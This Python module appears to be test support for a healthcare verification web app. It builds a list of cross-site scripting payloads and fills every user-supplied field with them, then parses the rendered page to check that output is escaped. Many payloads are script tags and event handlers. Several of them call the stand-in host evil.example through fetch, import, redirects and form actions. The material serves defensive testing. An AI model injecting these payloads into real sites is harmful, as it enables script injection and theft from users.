"""Strings that would run as a script wherever a page forgot to escape, and ways to put them everywhere."""

from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from typing import Final

from tests.papers import a_verification, poison
from tests.store.support import NOON
from verifier.model.fact import ANSWER, FactCode
from verifier.model.findings import Unknown
from verifier.model.inquiry import Patient, Relationship
from verifier.model.intake import Asker, Intake, IntakeState, Reach, Step
from verifier.model.verification import Verification

CALLS: Final = (
    "alert(1)",
    "window.hacked=1",
    "eval('hacked=1')",
    "fetch('//evil.example')",
    "document.title='hacked'",
    "top.hacked=1",
    "import('//evil.example/x.js')",
    "location='//evil.example'",
    "htmx.ajax('GET','//evil.example')",
    "setTimeout('hacked=1')",
)
WRAPPINGS: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "</desc></svg><svg/onload={}>",
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}'",
    "javascript:{}",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<math><mtext></p><script>{}</script>",
    "{{{{ ''.__class__ }}}}<script>{}</script>",
    "{{% raw %}}<script>{}</script>",
    '<div hx-get="//evil.example" hx-trigger="load">{}',
    "<form action=//evil.example><button autofocus>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example>{}",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<object data=javascript:{}>",
    "<style>@import '//evil.example';</style>{}",
    "<!--><script>{}</script>-->",
    "\u202e<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;<img src=x onerror={}>",
)
STRINGS: Final = tuple(wrapping.replace("{}", call) for wrapping in WRAPPINGS for call in CALLS)


def spoil(say: Callable[[str], str]) -> Verification:
    """Return a verification in which every word that a payer or a person said is one of *say*'s."""
    kept = a_verification()
    spoiled = poison(kept, say)
    people = {name: poison(getattr(kept.inquiry, name), say) for name in ("member", "patient")}
    first, heard = kept.unknowns[0], kept.facts[0]
    by_phone = replace(
        heard, code=FactCode.AUTHORIZATION_WAY, value={ANSWER: say("")}, call=spoiled.facts[0].call
    )
    return replace(
        spoiled,
        id=kept.id,
        inquiry=replace(kept.inquiry, **people),
        unknowns=(replace(first, question=say("")), Unknown(say(""), say(""))),
        facts=(by_phone,),
    )


def spoil_intake(own_id: str, facility: str, say: Callable[[str], str]) -> Intake:
    """Return a request to which every word was said by *say*, and that `spoil` answers."""
    kept = spoil(say)
    reach, step = poison((Reach("", "", ""), Step(NOON, "", "")), say)
    patient = Patient(Relationship.CHILD, first_name=say(""), last_name=say(""), birth_date=NOON.date())
    told = Intake(
        own_id, facility, NOON, IntakeState.NEEDS_CALL, Asker.LOVED_ONE, reach, kept.inquiry.member, patient
    )
    return replace(told, payer_text=say(""), verification_id=kept.id, steps=(step,))


class Page(HTMLParser):
    """A page as a browser reads it: elements with the names of their attributes, words, addresses, forms."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.shape: list[tuple[str, ...]] = []
        self.words: list[str] = []
        self.addresses: list[str] = []
        self.forms: dict[str, list[str]] = {}  # the names of the fields by where they are sent
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, *(name for name, _ in attrs)))
        self.words += (value or "" for _, value in attrs)
        self.addresses += (value or "" for name, value in attrs if name in LEADING)
        said = dict(attrs)
        if tag == "form":
            self.forms[said.get("action") or ""] = []
        elif tag in FILLED and self.forms and said.get("name"):
            self.forms[list(self.forms)[-1]].append(said["name"] or "")

    def handle_endtag(self, tag: str) -> None:
        self.shape.append((f"/{tag}",))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def says(self, text: str) -> int:
        """Count how often the page says *text*, as words or as the value of an attribute."""
        return flat("\n".join(self.words)).count(flat(text))

    @property
    def is_ours(self) -> bool:
        """Tell whether it leads, loads and sends to this host alone."""
        return all(
            each.startswith(("/", "#", "tel:")) and not each.startswith("//") for each in self.addresses
        )


def flat(text: str) -> str:
    """Return *text* as pages may write a word of a list: no underscores, single blanks."""
    return " ".join(text.replace("_", " ").split())


LEADING: Final = frozenset({"href", "src", "action", "formaction", "hx-get", "hx-post", "srcset", "data"})
FILLED: Final = frozenset({"input", "select", "textarea"})
